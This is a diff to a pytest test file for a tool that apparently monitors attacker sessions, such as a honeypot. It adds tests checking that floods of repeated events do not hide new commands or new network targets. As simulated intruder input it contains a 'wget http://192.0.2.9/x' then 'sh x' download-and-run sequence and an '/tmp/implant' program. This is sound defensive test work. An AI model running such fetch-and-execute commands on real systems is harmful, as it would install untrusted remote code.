@@ -14,6 +14,7 @@ from mirage.base.events import (
     ConnectionClosed,
     Event,
     EventsRepeated,
+    LineEntered,
     LoginAttempted,
     NetworkAsked,
     ProgramExecuted,
@@ -25,9 +26,10 @@ CLOSED = ConnectionClosed(reason="", duration=0)
 class Room:
     """A session with little of it, on a clock of its own."""
 
-    def __init__(self, monkeypatch: pytest.MonkeyPatch, *, room: int = 1000, reserve: int = 1000) -> None:
+    def __init__(self, monkeypatch: pytest.MonkeyPatch, *, room: int = 1000, reserve: int = 1000, kind: int = 0) -> None:
         monkeypatch.setattr(repeats, "ROOM", room)
         monkeypatch.setattr(repeats, "RESERVE", reserve)
+        monkeypatch.setattr(repeats, "KIND_RESERVE", kind)
         self.told = list[Event]()
         self.time = 0.0
         self.emit = repeats.Repeats(self.told.append, lambda: self.time)
@@ -51,8 +53,10 @@ async def test_what_is_repeated_beyond_the_room_is_counted_by_kind_and_name(monk
         ran(b"/bin/true", b"true"),
         asked(b"192.0.2.1"),
         ran(b"/bin/true", b"true"),
-        EventsRepeated(repeated="NetworkAsked", name=b"connect", count=499),
-        EventsRepeated(repeated="ProgramExecuted", name=b"/bin/true", count=498),
+        asked(b"192.0.2.1"),
+        ran(b"/bin/true", b"true"),
+        EventsRepeated(repeated="NetworkAsked", name=b"connect", count=498),
+        EventsRepeated(repeated="ProgramExecuted", name=b"/bin/true", count=497),
         CLOSED,
     ]
 
@@ -65,6 +69,19 @@ async def test_what_is_new_is_told_in_the_midst_of_a_flood(monkeypatch: pytest.M
     assert [one for one in session.told if one not in flood] == [
         ran(b"/tmp/implant", b"implant", b"-c", b"x"), asked(b"192.0.2.1", "resolve")
     ]  # fmt: skip
+
+
+async def test_a_flood_hides_no_new_line_and_no_new_target_of_a_known_name(monkeypatch: pytest.MonkeyPatch) -> None:
+    session = Room(monkeypatch, reserve=0, kind=1000)
+    typed = [LineEntered(text=b"wget http://192.0.2.9/x", mode="interactive"), LineEntered(text=b"sh x", mode="interactive")]
+    for number in range(500):
+        session.emit(ran(b"/bin/true", b"%d" % number))
+        session.emit(LineEntered(text=b"true", mode="interactive"))
+    session.emit(asked(b"192.0.2.1"))
+    for one in (*typed, asked(b"192.0.2.9"), *typed, asked(b"192.0.2.9")):
+        session.emit(one)
+    assert session.told[-4:] == [asked(b"192.0.2.1"), *typed, asked(b"192.0.2.9")]
+    assert len(session.told) < 16
 
 
 async def test_names_without_end_are_bounded_too(monkeypatch: pytest.MonkeyPatch) -> None:
